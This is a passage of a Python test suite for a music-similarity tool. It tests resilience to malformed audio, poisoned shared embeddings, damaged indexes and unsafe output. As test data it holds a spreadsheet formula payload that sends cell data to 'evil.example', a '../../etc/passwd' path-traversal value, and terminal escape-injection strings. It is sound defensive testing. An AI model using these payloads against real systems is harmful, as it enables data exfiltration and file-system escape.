"""Issue 6, inputs: ``musicsim index``, the GUI scan (``Library.index``, the same engine call) and
training survive the hostile corpus of ``tests/hostile.py``: every bad file is skipped with a clear
reason, every good one is finished, and the long and huge files cost bounded memory and time.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pytest

from clirun import run_cli
from hostile import (
    NOT_AUDIO,
    build_corpus,
    expected_ok,
    expected_skips,
    give_away,
    unprivileged_prefix,
)
from synth import tone, write
from trainer.library import Library
from trainer.modelstore import classic_model

pytestmark = pytest.mark.usefixtures("_one_torch_thread")

REPO = Path(__file__).resolve().parent.parent


def skip_lines(out: str, root: Path) -> dict[str, str]:
    """``{relative path: reason}`` from the CLI's '  skipped PATH: REASON' lines."""
    from trainer.cli import _show

    prefix = f"  skipped {_show(root)}/"
    found = {}
    for line in out.splitlines():
        if line.startswith("  skipped "):
            assert line.startswith(prefix), line
            rel, _, reason = line[len(prefix) :].partition(": ")
            found[rel] = reason
    return found


def shown(rel: str) -> str:
    from trainer.cli import _show

    return _show(rel)


def assert_reasons(got: dict[str, str], cases, *, shown_names: bool = False) -> None:
    want = expected_skips(cases)
    if shown_names:
        want = {shown(k): v for k, v in want.items()}
    assert set(got) == set(want), f"unexpected: {set(got) - set(want)}; missing: {set(want) - set(got)}"
    for rel, pattern in want.items():
        assert re.search(pattern, got[rel]), f"{rel}: {got[rel]!r} does not match {pattern!r}"


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile") / "music"
    cases = build_corpus(root)
    return root.resolve(), cases


@pytest.fixture(scope="module")
def cli_index(corpus, tmp_path_factory):
    """``musicsim index`` on the corpus, with decoder processes (as the GUI and CLI default to)."""
    root, _ = corpus
    home = tmp_path_factory.mktemp("hostile-home")
    started = time.perf_counter()
    rc, out, err = run_cli("--home", home, "--quiet", "index", root, "--model", "classic", "--workers", "2")
    return home, rc, out, err, time.perf_counter() - started


def test_cli_index_finishes_and_names_every_skipped_file(corpus, cli_index):
    root, cases = corpus
    _, rc, out, err, seconds = cli_index
    assert rc == 0, err
    assert "Traceback" not in err
    n_ok, n_bad = len(expected_ok(cases)), len(expected_skips(cases))
    assert out.splitlines()[0].startswith(f"indexed {n_ok}, unchanged 0, removed 0, skipped {n_bad} ")
    assert_reasons(skip_lines(out, root), cases, shown_names=True)
    out.encode("utf-8")  # printable on a UTF-8 terminal: non-UTF-8 names are escaped, not surrogates
    assert "\\udce9t\\udce9" in out  # ... and still recognisable
    assert seconds < 120  # the 60-minute and the 27-hour file cost excerpts, not their length


def test_index_keeps_good_songs_and_records_reasons(corpus, cli_index):
    root, cases = corpus
    home = cli_index[0]
    model = classic_model()
    with Library(home) as lib:
        songs = {os.fsdecode(s.path.relative_to(root)): s for s in lib.songs(root)}
        ids, matrix = lib.embeddings(model.info.key)
        failures = lib.failures(model.info.key)
        facts = {
            os.fsdecode(r[0]): r[1:]
            for r in lib.conn.execute("SELECT path, sample_rate, channels, duration FROM songs")
        }
    by_id = {s.id: rel for rel, s in songs.items()}
    assert {by_id[i] for i in ids.tolist()} == expected_ok(cases)
    assert np.isfinite(matrix).all() and matrix.shape[0] == len(expected_ok(cases))
    decode_failures = {by_id[i]: reason for i, reason in failures.items()}
    want = expected_skips(cases)
    for rel, reason in decode_failures.items():  # files that looked like audio until decoded
        assert re.search(want[rel], reason), (rel, reason)
    assert {s.error for rel, s in songs.items() if rel in decode_failures} == set(decode_failures.values())

    def fact(rel: str) -> tuple:
        return facts[str(root / rel)]

    assert fact("odd/sr-8k.wav")[:2] == (8000, 1)
    assert fact("odd/sr-96k.flac")[:2] == (96000, 1)
    assert fact("odd/six-channels.wav")[:2] == (22050, 6)
    assert fact("big/60-minutes.flac")[2] == pytest.approx(3600, abs=3)
    assert fact("truncated/half.flac")[2] > 0


def test_rescan_decodes_nothing_and_still_reports_reasons(corpus, cli_index, monkeypatch):
    """The GUI's rescan: failures are remembered, so bad files are not decoded again every time."""
    root, cases = corpus
    import trainer.decode

    def no_decoding(*a, **k):
        raise AssertionError("a rescan of an unchanged folder decoded a file")

    monkeypatch.setattr(trainer.decode, "decode_one", no_decoding)
    with Library(cli_index[0]) as lib:
        rep = lib.index(root, classic_model(), workers=0)
    assert rep.indexed == 0 and rep.unchanged == len(expected_ok(cases))
    got = {os.fsdecode(p.relative_to(root)): r for p, r in rep.skipped}
    assert len(got) == len(rep.skipped)  # each bad file reported once
    assert_reasons(got, cases)


def test_training_survives_the_corpus(corpus, tmp_path):
    root, cases = corpus
    rc, out, err = run_cli(
        "--home",
        tmp_path / "home",
        "--quiet",
        "train",
        "--library",
        root,
        "--name",
        "hostile",
        "--arch",
        "musicnet-small",
        "--labels",
        "folders",
        "--epochs",
        "1",
        "--batch-size",
        "8",
        "--segments",
        "2",
        "--workers",
        "0",
        "--device",
        "cpu",
    )
    assert rc == 0, err
    assert "Traceback" not in err
    saved = [ln for ln in out.splitlines() if ln.startswith("saved model 'hostile'")]
    assert saved and saved[0].endswith(f"; skipped {len(expected_skips(cases))}")
    assert_reasons(skip_lines(out, root), cases, shown_names=True)
    config = json.loads((tmp_path / "home" / "models" / "hostile" / "config.json").read_text())
    assert config["training"]["n_songs"] == len(expected_ok(cases))


@pytest.mark.parametrize("name", ["big/60-minutes.flac", "big/huge-27h.wav"])
def test_long_and_huge_files_cost_bounded_memory_and_time(corpus, name):
    """Only the excerpts are decoded: a 60-minute FLAC at 8 kHz would be 115 MB as float32 and the
    27-hour WAV 8.6 GB; decoding one (tags included, as the indexer does) stays under 40 MB."""
    from dataclasses import replace

    from trainer.config import FeatureConfig
    from trainer.decode import decode_one

    root, _ = corpus
    path = root / name
    training = replace(FeatureConfig(), n_excerpts=8, excerpt_seconds=6.0)  # as SegmentCache decodes
    for cfg in (FeatureConfig(), training):
        tracemalloc.start()
        started = time.perf_counter()
        try:
            dec = decode_one(path, cfg)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert time.perf_counter() - started < 20
        assert peak < 40e6, f"{name}: peak {peak / 1e6:.0f} MB"
        if dec.error is None:
            assert dec.waves.shape == (cfg.n_excerpts, cfg.excerpt_samples)
        else:
            assert dec.error.startswith("silent")


def test_file_deleted_or_replaced_between_scan_and_read(home, tmp_path, monkeypatch):
    root = tmp_path / "music"
    for name, f in [("keep", 200), ("gone", 300), ("garbage", 400), ("swapped", 500)]:
        write(root / f"{name}.wav", tone(f, 2.0))
    real_scan = Library.scan

    def scan_then_change_the_folder(self, *args, **kwargs):
        report = real_scan(self, *args, **kwargs)
        (root / "gone.wav").unlink()
        (root / "garbage.wav").write_text("overwritten by a text editor\n" * 50)
        write(root / "swapped.wav", tone(900, 3.0, harmonics=3))
        return report

    model = classic_model()
    monkeypatch.setattr(Library, "scan", scan_then_change_the_folder)
    with Library(home) as lib:
        rep = lib.index(root, model, workers=0)
    reasons = {p.name: r for p, r in rep.skipped}
    assert rep.indexed == 2
    assert reasons.keys() == {"gone.wav", "garbage.wav"}
    assert reasons["gone.wav"] == "file vanished (deleted or moved)"
    assert re.search(NOT_AUDIO, reasons["garbage.wav"])

    monkeypatch.setattr(Library, "scan", real_scan)
    from trainer.embed import Embedder

    with Library(home) as lib:
        again = lib.index(root, model, workers=0)
        assert (again.removed, again.scan.changed) == (1, 2)  # gone; garbage and swapped by size/mtime
        assert again.indexed == 1 and [p.name for p, _ in again.skipped] == ["garbage.wav"]
        song = lib.song_by_path(root / "swapped.wav")
        ids, matrix = lib.embeddings(model.info.key)
        got = matrix[ids.tolist().index(song.id)]
        assert lib.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    np.testing.assert_allclose(got, Embedder(model).embed_file(root / "swapped.wav"), rtol=1e-5, atol=1e-6)


# -- permissions: root ignores them, so as root the checks run as 'nobody' -------------------------
PERMISSION_SCRIPT = r"""
import contextlib, io, json, os, sys, traceback
from pathlib import Path
from trainer.cli import main

base = Path(sys.argv[1])

def cli(*argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            rc = main([str(a) for a in argv])
        except SystemExit as exc:
            rc = exc.code
        except BaseException:
            rc = "raised"
            err.write(traceback.format_exc())
    return {"rc": rc, "out": out.getvalue(), "err": err.getvalue()}

res = {"uid": os.geteuid()}
res["index"] = cli("--home", base / "home", "--quiet", "index", base / "lib", "--model", "classic",
                   "--workers", "0")
res["index_ro"] = cli("--home", base / "ro-home", "--quiet", "index", base / "lib", "--model", "classic",
                      "--workers", "0")
res["index_ro_existing"] = cli("--home", base / "ro-existing", "--quiet", "index", base / "lib", "--model",
                               "classic", "--workers", "0")
res["train_ro"] = cli("--home", base / "ro-home", "--quiet", "train", "--library", base / "lib",
                      "--name", "m",
                      "--arch", "musicnet-small", "--epochs", "1", "--workers", "0", "--device", "cpu")
from trainer.config import FeatureConfig
from trainer.errors import ModelError
from trainer.models import build_model
from trainer.modelstore import ModelInfo, save_model
try:
    save_model(base / "ro-models" / "models" / "m",
               build_model("musicnet-small", FeatureConfig(), embedding_dim=16),
               ModelInfo(name="m", arch="musicnet-small", embedding_dim=16))
    res["save_ro"] = "saved"
except ModelError as exc:
    res["save_ro"] = str(exc)
res["ro_models_after"] = sorted(os.listdir(base / "ro-models" / "models"))
os.environ["QT_QPA_PLATFORM"] = "offscreen"
from musicsim_app.app import main as app_main
app_err = io.StringIO()
with contextlib.redirect_stderr(app_err):
    try:
        app_rc = app_main(["--audio", "null"], home=base / "ro-home")
    except BaseException:
        app_rc = "raised"
        app_err.write(traceback.format_exc())
res["app_ro"] = {"rc": app_rc, "out": "", "err": app_err.getvalue()}
print("RESULT " + json.dumps(res))
"""


@pytest.fixture(scope="module", autouse=True)
def _unprivileged_run():
    """Start PERMISSION_SCRIPT where permission bits apply -- as ourselves, or as 'nobody' when we
    are root -- with the module's first test, so it runs while the corpus tests do."""
    prefix = unprivileged_prefix()
    if prefix is None:
        yield None
        return
    base = Path(tempfile.mkdtemp(prefix="musicsim-perm-"))
    proc = None
    try:
        base.chmod(0o755)
        for i, f in enumerate((220, 330, 440)):
            write(base / "lib" / "album" / f"song-{i}.wav", tone(f, 2.0))
        locked = write(base / "lib" / "album" / "locked.wav", tone(550, 2.0))
        for d in ("home", "ro-home", "ro-models/models"):
            (base / d).mkdir(parents=True)
        with Library(base / "ro-existing") as lib:  # an index made earlier, now on a read-only folder
            lib.scan(base / "lib")
        give_away(base)
        locked.chmod(0)
        (base / "ro-home").chmod(0o555)
        (base / "ro-models" / "models").chmod(0o555)
        for p in (base / "ro-existing").iterdir():
            p.chmod(0o444)
        (base / "ro-existing").chmod(0o555)
        env = {k: v for k, v in os.environ.items() if not k.startswith("MUSICSIM")}
        env.update(HOME=str(base), PYTHONPATH=str(REPO), PYTHONDONTWRITEBYTECODE="1", OMP_NUM_THREADS="1")
        proc = subprocess.Popen(
            [*prefix, sys.executable, "-c", PERMISSION_SCRIPT, str(base)],
            cwd=REPO,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        yield base, proc
    finally:
        if proc is not None and proc.poll() is None:
            proc.kill()
            proc.communicate()
        for dirpath, _, filenames in os.walk(base):
            os.chmod(dirpath, 0o755)
            for name in filenames:
                os.chmod(os.path.join(dirpath, name), 0o644)
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def unprivileged(_unprivileged_run):
    if _unprivileged_run is None:
        pytest.skip("running as root without setpriv: cannot drop privileges to test permissions")
    base, proc = _unprivileged_run
    out, err = proc.communicate(timeout=300)
    lines = [ln for ln in out.splitlines() if ln.startswith("RESULT ")]
    assert proc.returncode == 0 and lines, out + err
    return base, json.loads(lines[0][len("RESULT ") :])


def _one_line_error(result: dict, pattern: str) -> None:
    assert result["rc"] == 2, result
    lines = result["err"].strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("musicsim: error: "), result["err"]
    assert re.search(pattern, lines[0]), lines[0]


def test_unreadable_file_is_skipped_with_permission_denied(unprivileged):
    base, res = unprivileged
    assert res["uid"] != 0
    index = res["index"]
    assert index["rc"] == 0, index["err"]
    assert index["out"].startswith("indexed 3, unchanged 0, removed 0, skipped 1 ")
    locked = base / "lib" / "album" / "locked.wav"
    assert f"  skipped {locked}: permission denied" in index["out"].splitlines()


def test_read_only_data_folder_is_a_clear_error(unprivileged):
    """No index, no run and no model can be written: one line each, and nothing half-written."""
    base, res = unprivileged
    _one_line_error(res["index_ro"], r"cannot open the library index '.*ro-home/index.db'")
    _one_line_error(res["index_ro_existing"], r"library index '.*ro-existing/index.db'")
    _one_line_error(res["train_ro"], r"cannot write to '.*ro-home/runs/m': Permission denied")
    assert re.fullmatch(r"cannot write model to '.*ro-models/models': Permission denied", res["save_ro"])
    assert res["ro_models_after"] == []
    assert sorted(os.listdir(base / "ro-home")) == []


def test_window_on_a_read_only_home_is_one_line(unprivileged):
    """Issue 19: the window used to die with an OSError traceback at start."""
    _, res = unprivileged
    _one_line_error(
        res["app_ro"],
        r"cannot write to the MusicSim home '.*ro-home' \(Permission denied\); make it "
        r"writable or pick another with --home or MUSICSIM_HOME",
    )


# == issue 19: what a stranger hands you cannot crash, poison or impersonate ========================
# A shared folder's embeddings file, an index left by someone else: every attack ends with the
# same query answer as a clean home (after re-indexing where the attack cost embeddings).
from strangers import (  # noqa: E402
    copy_library,
    damage_table,
    execute,
    index,
    query,
    read_shipped,
    set_vector,
    small_library,
    song_index,
    write_shipped,
)
from trainer.precomputed import FILE_NAME as SHIPPED  # noqa: E402


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    """A small library with the classic model's precomputed embeddings, and the answers a clean
    home (one that decoded every song) gives: ``(library, clean home, query song, query lines)``."""
    lib = small_library(tmp_path_factory.mktemp("strangers") / "music")
    home = tmp_path_factory.mktemp("clean-home")
    rc, out, err = run_cli("--home", home, "precompute", lib, "--model", "classic", "--workers", "0")
    assert rc == 0 and out.startswith("indexed 9, unchanged 0") and "wrote 9 embeddings" in out, out + err
    song = lib / "synth" / "tones" / "tones-1.wav"
    return lib, home, song, query(home, song)


def _fresh(clean, tmp_path):
    """A copy of the clean library (shipped file included) and an empty home."""
    lib, _, song, _ = clean
    copy = copy_library(lib, tmp_path / "music")
    return copy, tmp_path / "home", copy / song.relative_to(lib)


def _same_answer(lines: list[str], clean, lib: Path) -> None:
    """The query lines a clean home gives, with the copy's folder in place of the original's."""
    want = [ln.replace(str(clean[0]), str(lib)) for ln in clean[3]]
    assert lines == want


POISONS = {
    "nan": lambda v: np.full_like(v, np.nan),
    "inf": lambda v: np.where(np.arange(v.size) == 3, np.inf, v).astype(np.float32),
    "huge": lambda v: np.full_like(v, 3e38),
    "zeros": lambda v: np.zeros_like(v),
}


@pytest.mark.parametrize("poison", sorted(POISONS))
def test_poisoned_shared_vectors_are_embedded_from_audio(clean, tmp_path, poison):
    """One NaN, inf or 3e38 vector in a shared file used to break every query of the home; now
    that song is embedded from its audio, with a note, and the answers are a clean home's."""
    lib, home, song = _fresh(clean, tmp_path)
    meta, vectors = read_shipped(lib)
    i = song_index(meta, "synth/tones/tones-1.wav")
    vectors[i] = POISONS[poison](vectors[i])
    write_shipped(lib, meta, vectors)
    rc, out, err = index(home, lib)
    assert rc == 0 and "Traceback" not in err, err
    assert out.startswith("indexed 1, 8 from the folder's precomputed embeddings"), out
    assert (
        "note: 1 song(s) in 'musicsim-embeddings.safetensors' have unusable embeddings (first: "
        "synth/tones/tones-1.wav:" in out
    )
    _same_answer(query(home, song), clean, lib)


def test_shared_vectors_of_the_wrong_width_are_ignored(clean, tmp_path):
    lib, home, song = _fresh(clean, tmp_path)
    meta, vectors = read_shipped(lib)
    write_shipped(lib, meta, np.concatenate([vectors, vectors], axis=1))
    rc, out, err = index(home, lib)
    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out + err
    assert "names model 'classic' but not its settings or embedding size; indexing as usual" in out
    _same_answer(query(home, song), clean, lib)


def _unshipped(clean, tmp_path):
    """A copy of the clean library without its shipped file (every song is embedded from audio)."""
    lib, home, song = _fresh(clean, tmp_path)
    (lib / SHIPPED).unlink()
    return lib, home, song


def _deep(n: int) -> str:
    return "[" * n + "]" * n


#: metadata edits: (what the stranger did, how to do it, what the index says)
BAD_ENTRIES = {
    "duration_s a string": (lambda s: s.update(duration_s="3 minutes"), "duration_s must be a number"),
    "title a dict": (lambda s: s.update(title={"$": "x"}), "title must be text, found dict"),
    "title a list": (lambda s: s.update(title=["a", "b"]), "title must be text, found list"),
    "size negative": (lambda s: s.update(size=-1), "size must be between 0"),
    "sha256 a number": (lambda s: s.update(sha256=12), "sha256 must be 64 lower-case hex digits"),
    "channels 1e400": (lambda s: s.update(channels=float("inf")), "channels must be a finite number"),
    "rel escaping the folder": (
        lambda s: s.update(rel="../../etc/passwd"),
        "rel '../../etc/passwd' is not a path inside the folder",
    ),
    "not an object": (None, "not an object but str"),
}


@pytest.mark.parametrize("what", sorted(BAD_ENTRIES))
def test_malformed_shared_entries_are_skipped_with_a_note(clean, tmp_path, what):
    """A bad entry costs its own song (embedded from audio, said once); the others are used."""
    lib, home, song = _fresh(clean, tmp_path)
    meta, vectors = read_shipped(lib)
    i = song_index(meta, "synth/tones/tones-1.wav")
    edit, reason = BAD_ENTRIES[what]
    if edit is None:
        meta["songs"][i] = "synth/tones/tones-1.wav"
    else:
        edit(meta["songs"][i])
    write_shipped(lib, meta, vectors)
    rc, out, err = index(home, lib)
    assert rc == 0 and "Traceback" not in err, err
    assert out.startswith("indexed 1, 8 from the folder's precomputed embeddings"), out
    note = [ln for ln in out.splitlines() if "is malformed" in ln]
    assert len(note) == 1 and f"entry {i + 1}: {reason}" in note[0], out
    _same_answer(query(home, song), clean, lib)
    with Library(home) as lib_:
        assert all(isinstance(s.duration_s, float) for s in lib_.songs())


#: whole-file problems: (raw metadata or a maker, what the note says)
BAD_FILES = {
    "version 1e400": (
        '{{"format": "musicsim-precomputed-embeddings", "version": 1e400, {rest}',
        "version must be a finite number",
    ),
    "version [2]": (
        '{{"format": "musicsim-precomputed-embeddings", "version": [2], {rest}',
        "version must be a number",
    ),
    "deep JSON": (
        '{{"format": "musicsim-precomputed-embeddings", "version": 1, "x": ' + _deep(100_000) + ", {rest}",
        "nested too deeply",
    ),
    "not JSON": ("{{{{{{", "Expecting property name"),
    "songs an object": (None, "songs must be a list"),
}


@pytest.mark.parametrize("what", sorted(BAD_FILES))
def test_malformed_shared_file_is_ignored_with_one_line(clean, tmp_path, what):
    lib, home, song = _fresh(clean, tmp_path)
    meta, vectors = read_shipped(lib)
    raw, reason = BAD_FILES[what]
    if raw is None:
        meta["songs"] = {"a": 1}
        raw = json.dumps(meta)
    else:
        rest = json.dumps({k: v for k, v in meta.items() if k not in ("format", "version")})[1:]
        raw = raw.format(rest=rest)
    write_shipped(lib, raw, vectors)
    rc, out, err = index(home, lib)
    assert rc == 0 and "Traceback" not in err, err
    assert out.startswith("indexed 9, unchanged 0"), out
    notes = [ln for ln in out.splitlines() if ln.startswith("  note: ")]
    assert len(notes) == 1 and "are unusable: " in notes[0] and reason in notes[0], out
    assert notes[0].endswith("; indexing as usual") and len(notes[0]) < 600
    _same_answer(query(home, song), clean, lib)


def test_shared_titles_are_cleaned_and_bounded(clean, tmp_path):
    """Control characters, escape sequences, lone surrogates and a 5 MB title in a shared file:
    the title is stored cleaned and cut to 500 characters, and printed escaped and cut."""
    lib, home, song = _fresh(clean, tmp_path)
    meta, vectors = read_shipped(lib)
    for s in meta["songs"]:
        if s["rel"] == "synth/tones/tones-2.wav":
            s["title"] = "\x1b[2J\x1b[31mEVIL\x07\r\nforged line\u202e" + "x" * 5_000_000
            s["artist"] = "lone \ud800 surrogate"
    write_shipped(lib, meta, vectors)
    rc, out, err = index(home, lib)
    assert rc == 0 and out.startswith("indexed 0, 9 from the folder's precomputed embeddings"), out + err
    with Library(home) as lib_:
        stored = {s.path.name: s for s in lib_.songs()}["tones-2.wav"]
    assert stored.title.startswith("[2J [31mEVIL forged line ") and len(stored.title) == 500
    assert stored.artist == "lone surrogate"
    lines = query(home, song)
    assert len(lines) == 6 and all(len(ln) < 1200 for ln in lines)
    assert not any(c in "".join(lines) for c in "\x1b\x07\r\u202e")
    "\n".join(lines).encode("utf-8")  # strict UTF-8


def test_a_huge_sparse_shared_file_is_not_read(clean, tmp_path):
    lib, home, song = _fresh(clean, tmp_path)
    with open(lib / SHIPPED, "r+b") as f:
        f.truncate(2 * 1024**3)  # 2 GB: a hole after the real file
    tracemalloc.start()
    try:
        rc, out, err = index(home, lib)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out + err
    assert "are unusable: larger than 1 GiB; indexing as usual" in out
    assert peak < 200e6
    _same_answer(query(home, song), clean, lib)


# -- an index with poisoned rows (an older version, a foreign file, a damaged disk) ---------------
@pytest.fixture
def poisoned(clean, tmp_path):
    """A home indexed from the clean library, then edited with SQLite: a NaN vector, a 3e38 one, a
    3-byte blob, a vector twice as wide, an all-zero one, a duration that is text, a title that is
    a blob and one of 5 MB with escape sequences."""
    lib, home, song = _unshipped(clean, tmp_path)
    assert index(home, lib)[0] == 0
    db = home / "index.db"
    from trainer.classic_names import N_FEATURES

    album = lib / "synth"
    set_vector(db, album / "tones" / "tones-0.wav", np.full(N_FEATURES, np.nan, np.float32).tobytes())
    set_vector(db, album / "squares" / "squares-0.wav", np.full(N_FEATURES, 3e38, np.float32).tobytes())
    set_vector(db, album / "squares" / "squares-1.wav", b"abc")
    set_vector(db, album / "noise" / "noise-0.wav", np.ones(2 * N_FEATURES, np.float32).tobytes())
    set_vector(db, album / "noise" / "noise-1.wav", np.zeros(N_FEATURES, np.float32).tobytes())
    execute(
        db,
        "UPDATE songs SET duration = 'three minutes', title = ? WHERE path = ?",
        b"\x00\xff",
        bytes(album / "tones" / "tones-2.wav"),
    )
    execute(
        db,
        "UPDATE songs SET title = ? WHERE path = ?",
        "\x1b]0;pwned\x07" + "y" * 5_000_000,
        bytes(album / "noise" / "noise-2.wav"),
    )
    return lib, home, song


def test_search_survives_poisoned_rows_and_index_mends_them(clean, poisoned):
    lib, home, song = poisoned
    lines = query(home, song, k=3)  # the unusable rows are nobody's neighbours
    assert len(lines) == 4 and all("tones-0.wav" not in ln for ln in lines)
    assert not any(c in "".join(lines) for c in "\x1b\x07")
    with Library(home) as lib_:
        songs = lib_.songs()
        ids, matrix = lib_.embeddings(classic_model().info.key)
    assert len(ids) == 4 and np.isfinite(matrix).all()
    assert {s.path.name: s.duration_s for s in songs}["tones-2.wav"] is None
    assert {s.path.name: s.title for s in songs}["tones-2.wav"] is None
    assert len({s.path.name: s.title for s in songs}["noise-2.wav"]) == 500
    rc, out, err = index(home, lib)
    assert rc == 0 and out.startswith("indexed 5, unchanged 4"), out + err
    assert (
        "note: 5 stored embedding(s) were unusable (not finite, absurd or the wrong size); those songs "
        "are embedded anew" in out
    )
    _same_answer(query(home, song), clean, lib)


def test_the_map_survives_poisoned_rows(poisoned):
    """The window's snapshot (what the map projects) holds only usable rows: PCA works."""
    from musicsim_app.engine_jobs import load_snapshot
    from musicsim_app.projection import project

    lib, home, _ = poisoned
    snap = load_snapshot(home, [lib], classic_model().info.key)
    assert len(snap.ids) == 4 and np.isfinite(snap.matrix).all()
    xy = project(snap.matrix, "PCA")
    assert xy.shape == (4, 2) and np.isfinite(xy).all()


def test_check_reports_and_repairs_poisoned_rows(clean, poisoned):
    lib, home, song = poisoned
    rc, out, err = run_cli("--home", home, "check")
    assert rc == 1 and "Traceback" not in err, err
    assert "  5 embedding(s) of classic@" in out and "  2 song(s) with malformed fields" in out
    assert out.rstrip().endswith("problems found: 'musicsim check --repair' repairs them")
    rc, out, err = run_cli("--home", home, "check", "--repair")
    assert rc == 0 and "repaired: " in out, out + err
    rc, out, _ = run_cli("--home", home, "check")
    assert rc == 0 and out.rstrip().endswith("no problems found"), out
    rc, out, _ = index(home, lib)
    assert rc == 0 and out.startswith("indexed 5, unchanged 4") and "note:" not in out, out
    _same_answer(query(home, song), clean, lib)


def test_unreadable_model_record_drops_its_rows(clean, tmp_path):
    """models.features that is not JSON (or a width that is not a number) vouches for nothing:
    the key's rows are dropped (one line), and the next index makes them anew."""
    lib, home, song = _unshipped(clean, tmp_path)
    assert index(home, lib)[0] == 0
    execute(home / "index.db", "UPDATE models SET features = '{not json'")
    rc, _, err = run_cli("--home", home, "query", song, "--model", "classic")
    assert rc == 2 and err.startswith("musicsim: error: no songs are indexed with model 'classic'"), err
    assert len(err.strip().splitlines()) == 1
    rc, out, _ = index(home, lib)
    assert rc == 0 and out.startswith("indexed 9, unchanged 0"), out
    _same_answer(query(home, song), clean, lib)


def test_a_damaged_database_page_is_one_line_and_check_repairs_it(clean, tmp_path):
    lib, home, song = _unshipped(clean, tmp_path)
    assert index(home, lib)[0] == 0
    damage_table(home / "index.db", "embeddings")
    for argv in (("query", song, "--model", "classic"), ("prune",)):
        rc, out, err = run_cli("--home", home, *argv)
        assert rc == 2 and "Traceback" not in err, err
        lines = err.strip().splitlines()
        assert len(lines) == 1 and re.match(
            r"musicsim: error: .*damaged.*'musicsim check --repair'", lines[0]
        ), err
    rc, out, _ = run_cli("--home", home, "check")
    assert rc == 1 and "  damaged: " in out, out
    rc, out, err = run_cli("--home", home, "check", "--repair")
    assert rc == 0 and "rebuilt from what could be read (" in out and "index.db.damaged-" in out, out + err
    assert list(home.glob("index.db.damaged-*"))  # kept for whoever wants to look
    rc, out, _ = run_cli("--home", home, "check")
    assert rc == 0 and out.rstrip().endswith("no problems found"), out
    rc, out, _ = index(home, lib)
    assert rc == 0 and re.match(r"indexed [1-9]\d*, unchanged \d+, removed 0, skipped 0", out), out
    _same_answer(query(home, song), clean, lib)


# -- what is printed and exported ---------------------------------------------------------------------
def test_query_output_escapes_names_and_tags(tmp_path):
    """A file name with an escape sequence, BEL and a newline, tags with CR/LF, ANSI codes, bidi
    overrides and 2 MB of text, a name that is not UTF-8: each result is one printable line."""
    import mutagen.flac

    lib = tmp_path / "music"
    names = ["evil \x1b[31mred\x07\nforged.flac", os.fsdecode(b"caf\xe9 \xff.flac"), "plain.flac"]
    for i, name in enumerate(names):
        path = write(lib / "album" / name, tone(200 + 100 * i, 2.0, harmonics=3), format="FLAC")
        tags = mutagen.flac.FLAC(os.fsencode(path))
        tags["title"] = "\x1b[2J\rTitle\r\nnext line\u202e" + "z" * 2_000_000
        tags["artist"] = "\x07Artist\x1b]0;title\x07"
        tags.save()
    home = tmp_path / "home"
    assert index(home, lib)[0] == 0
    rc, out, err = run_cli("--home", home, "query", lib / "album" / "plain.flac", "--model", "classic")
    assert rc == 0, err
    out.encode("utf-8")  # strict: nothing unencodable
    lines = out.splitlines()
    assert len(lines) == 3 and lines[0].startswith("2 nearest to ")  # header + 2 results, no forged line
    assert "; 10 asked for, the index has 3 songs" in lines[0]
    assert not any(c in out for c in "\x1b\x07\r\u202e")
    assert "\\e[31mred\\a\\nforged.flac" in out and "caf\\udce9 \\udcff.flac" in out
    assert all(len(ln) < 1000 for ln in lines)


def test_m3u_export_keeps_one_entry_per_song(tmp_path):
    """Tags cannot add playlist lines; names that are not UTF-8 keep their bytes; a name with a
    newline is written as a file:// URI (the window's export and 'musicsim path --m3u')."""
    from types import SimpleNamespace

    from musicsim_app.results_view import write_m3u as window_m3u
    from trainer.playlists import write_m3u as engine_m3u

    lib = tmp_path / "music"
    raw_name = lib / os.fsdecode(b"caf\xe9.wav")
    newline = lib / "two\nlines.wav"
    songs = [
        SimpleNamespace(
            path=p,
            root=lib,
            duration_s=3.0,
            title=f"T\n#EXTINF:0,forged\r{i}",
            artist="A\x1b[31m",
            album=None,
        )
        for i, p in enumerate((raw_name, newline))
    ]
    window_m3u(tmp_path / "w.m3u", [SimpleNamespace(song=s) for s in songs])
    engine_m3u(tmp_path / "e.m3u", [(s.path, s.duration_s, f"{s.artist} - {s.title}") for s in songs])
    for out in (tmp_path / "w.m3u", tmp_path / "e.m3u"):
        lines = out.read_bytes().split(b"\n")
        assert lines[0] == b"#EXTM3U" and lines[-1] == b"" and len(lines) == 6, lines
        assert all(ln.startswith(b"#EXTINF:3,") for ln in lines[1:5:2])
        assert b"\x1b" not in out.read_bytes() and b"\r" not in out.read_bytes()
        assert lines[2] == os.fsencode(raw_name)  # the exact bytes: a player finds the file
        assert lines[4] == b"file://" + os.fsencode(lib).replace(b" ", b"%20") + b"/two%0Alines.wav"


def test_benchmark_csv_cannot_run_a_formula(tmp_path):
    from trainer.evaluate import ScoreRow
    from trainer.results import BenchResult, load_reference_tables

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    res = BenchResult(
        model=evil,
        rows=[ScoreRow("cosine", "Normalizer", 50.0, 3)],
        p_at_1=0.5,
        map_at_r=0.5,
        n_songs=3,
        n_triplets=3,
    )
    res.to_csv(tmp_path / "r.csv")
    cell = (tmp_path / "r.csv").read_text().splitlines()[1]
    assert cell.startswith("'=HYPERLINK(") or cell.startswith("\"'=HYPERLINK(")
    assert list(load_reference_tables(tmp_path / "r.csv")) == [evil]  # read back as it was


def test_an_index_from_before_the_newer_feature_fields_is_used_as_it_is(clean, tmp_path):
    """An older version recorded a model's features without the fields added since (musicnn's
    log_compression, log_gain): same representation, so its embeddings are used, not refused."""
    lib, home, song = _unshipped(clean, tmp_path)
    assert index(home, lib)[0] == 0
    con = sqlite3.connect(home / "index.db")
    with con:
        features = json.loads(con.execute("SELECT features FROM models").fetchone()[0])
        old = {k: v for k, v in features.items() if k not in ("log_compression", "log_gain")}
